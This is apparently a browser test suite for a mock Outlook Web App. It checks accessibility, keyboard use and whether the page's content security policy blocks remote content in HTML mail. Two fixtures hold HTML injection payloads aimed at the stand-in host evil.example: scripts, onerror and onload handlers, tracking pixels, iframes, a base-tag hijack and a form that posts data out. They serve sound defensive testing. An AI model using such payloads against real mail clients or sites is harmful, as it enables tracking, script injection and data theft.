import { afterAll, beforeAll, expect, test } from 'vitest'
import { derivedGuid } from '#shared/scenario/identifiers.ts'
import { loadDefaultScenario } from '#shared/scenario/load.ts'
import { type Look, problemsOf } from '#test/actors/look.ts'
import { type Browser, openMailboxOf, type Stage, testKeys } from '../_stage.ts'
import { relationalRecipientStore } from '../mailbox/relational-recipient-store.ts'
import { relationalPermissionStore } from '../organization/permission-store.ts'
import { openStageBrowser, type StageBrowser } from './_chromium.ts'

const alice = 'alice@contoso.com'
const open = new AsyncDisposableStack()
let stage: Stage & { readonly person: Browser }
let browser: StageBrowser

const hostile = `<h1>Offer</h1><img src="https://evil.example/pixel.gif"><link rel="stylesheet" href="https://evil.example/a.css">
  <p style="background:url(https://evil.example/b)">Read <a href="https://example.com/">more</a></p>
  <script>fetch('https://evil.example/c')</script><table><tr><th>Item</th></tr><tr><td>${'wide'.repeat(200)}</td></tr></table>`

beforeAll(async () => {
  const scenario = await loadDefaultScenario()
  const [first] = scenario.exchange.messages
  if (!first) throw new Error('the default world has no message')
  const mail = { ...first, mailbox: alice, subject: 'Offer', html: hostile, unread: true, importance: 'low' as const }
  const messages = [...scenario.exchange.messages, mail]
  const keys = await testKeys()
  stage = open.use(
    await openMailboxOf(alice, await keys.key('Entra'), { ...scenario, exchange: { ...scenario.exchange, messages } }),
  )
  keys.remove()
  await shareMailbox('erin@contoso.com')
  browser = open.use(await openStageBrowser())
})

/** With Alice. */
async function shareMailbox(address: string) {
  const recipients = relationalRecipientStore(stage.store.db, stage.clock)
  const guids = [address, alice].map(async (each) => (await recipients.findRecipient('emailAddress', each))?.objectGuid)
  const [objectGuid = '', trusteeGuid = ''] = await Promise.all(guids)
  const permission = { objectGuid, trusteeGuid, right: 'FullAccess', isDenied: false, autoMapping: true } as const
  await relationalPermissionStore(stage.store.db).keep(permission)
}

afterAll(() => open.disposeAsync())

const offer = () => {
  const own = stage.scenario.exchange.messages.filter((message) => message.mailbox === alice)
  return `/owa/?ItemID=${derivedGuid('message', `${alice}/${own.findIndex(({ subject }) => subject === 'Offer')}`)}`
}

const pages: Readonly<Record<string, () => string>> = {
  'the inbox': () => '/owa/',
  'an empty folder': () => '/owa/?path=/mail/junkemail',
  'an HTML message': offer,
  'a message with an attachment': () => `/owa/?ItemID=${derivedGuid('message', `${alice}/5`)}`,
  'a reply': () => `/owa/?path=/mail/action/compose&mode=reply&ItemID=${derivedGuid('message', `${alice}/1`)}`,
  "another's mailbox": () => '/owa/erin@contoso.com/',
  "a new message in another's mailbox": () => '/owa/erin@contoso.com/?path=/mail/action/compose',
  'open another mailbox': () => '/owa/?path=/mail/action/open&mailbox=nobody',
  'a search': () => '/owa/?path=/mail/search&q=storefront',
  'the options': () => '/ecp/',
  'the calendar': () => '/owa/?path=/calendar/view/Month',
  'an event form': () => '/owa/?path=/calendar/action/compose',
  'the people': () => '/owa/?path=/people&q=p',
  'a contact form': () => '/owa/?path=/people/action/compose',
  'the tasks': () => '/owa/?path=/tasks',
  'a task form': () => '/owa/?path=/tasks/action/compose',
  'the notes': () => '/owa/?path=/notes',
  'the settings': () => '/owa/?path=/options/automaticreply',
  'the folders': () => '/owa/?path=/mail/action/folders',
  'the error page': () => '/owa/auth/errorfe.aspx?msg=MailboxOnPremises',
  'the signed-out page': () => '/owa/auth/signout.aspx',
  'the time-out page': () => '/owa/auth/TimeoutLogout.aspx',
  'a missing message': () => '/owa/?ItemID=none',
}

const light: Look = { colorScheme: 'light', size: { width: 1200, height: 800 } }
const dark: Look = { colorScheme: 'dark', size: { width: 1200, height: 800 } }
const phone: Look = { colorScheme: 'light', size: { width: 360, height: 740 } }
const inEveryLook = [
  'the inbox',
  'an HTML message',
  'a reply',
  "another's mailbox",
  'the error page',
  'the calendar',
  'an event form',
  'the folders',
]

test.each(Object.keys(pages))('%s passes axe, fits its window and says that it is a mock', async (name) => {
  const page = await browser.visit(stage.person, pages[name]?.() ?? '', { bypassCSP: true })
  expect(await problemsOf(page, inEveryLook.includes(name) ? [light, dark, phone] : [light])).toEqual([])
  expect(await page.getByTestId('mock-mark').innerText()).toContain('Fauxchange mock')
  await page.context().close()
})

test('mail is read by keyboard, without scripts', async () => {
  const page = await browser.visit(stage.person, '/owa/', { javaScriptEnabled: false })
  const message = page.getByRole('link', { name: /Storefront designs/ })
  await message.focus()
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { level: 1, name: 'Storefront designs, second round' }).waitFor()
  await page.getByRole('button', { name: 'Mark as unread' }).focus()
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { level: 1, name: /^Inbox/ }).waitFor()
  expect(await page.getByRole('link', { name: /Unread\. Storefront designs/ }).count()).toBe(1)
  await page.context().close()
})

test('the skip link leads past the folders', async () => {
  const page = await browser.visit(stage.person, '/owa/')
  await page.keyboard.press('Tab')
  await page.keyboard.press('Enter')
  expect(await page.evaluate('document.activeElement.id')).toBe('content')
  await page.context().close()
})

test('a message asks nothing of the internet', async () => {
  const page = await browser.visit(stage.person, offer())
  await page.getByText('Pictures from the internet are not shown (1).').waitFor()
  expect(browser.elsewhere).toEqual([])
  await page.context().close()
})

/** What mail might hold, were it not cleaned: each part tells the world, or the page, when it runs. */
const unclean = `<script>window.ran = true</script><img src="x" onerror="window.ran = true">
  <svg onload="window.ran = true"></svg><style>@import 'https://evil.example/a.css'; body { background: url(https://evil.example/b) }</style>
  <p style="background: url(https://evil.example/c)">x</p><iframe src="https://evil.example/d"></iframe>
  <object data="https://evil.example/e"></object><img src="https://evil.example/f" srcset="https://evil.example/g 1x">
  <link rel="stylesheet" href="https://evil.example/h"><script src="https://evil.example/i.js"></script>
  <video poster="https://evil.example/j" src="https://evil.example/k" autoplay></video><base href="https://evil.example/">
  <form id="stolen" action="https://evil.example/l"><input name="a" value="b"></form>`

test('were mail not cleaned, the policy of the page lets nothing of it run, fetch or post', async () => {
  browser.spoil = (html) => html.replace('</article>', `${unclean}</article>`)
  const page = await browser.visit(stage.person, offer())
  browser.spoil = (html) => html
  await page.locator('#stolen').waitFor({ state: 'attached' })
  expect(await page.evaluate('[window.ran, document.baseURI]')).toEqual([undefined, page.url()])
  const refused = await page.evaluate(`new Promise((tell) => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => tell(effectiveDirective))
    document.querySelector('#stolen').submit()
  })`)
  expect(refused).toBe('form-action')
  expect(browser.elsewhere).toEqual([])
  await page.context().close()
})

test('the page says how the person was signed in, when asked', async () => {
  const page = await browser.visit(stage.person, '/owa/')
  expect(await page.getByText('Microsoft Entra ID, OpenID Connect').isVisible()).toBe(false)
  await page.getByText('How you were signed in').click()
  expect(await page.getByText('Microsoft Entra ID, OpenID Connect').isVisible()).toBe(true)
  await page.context().close()
})
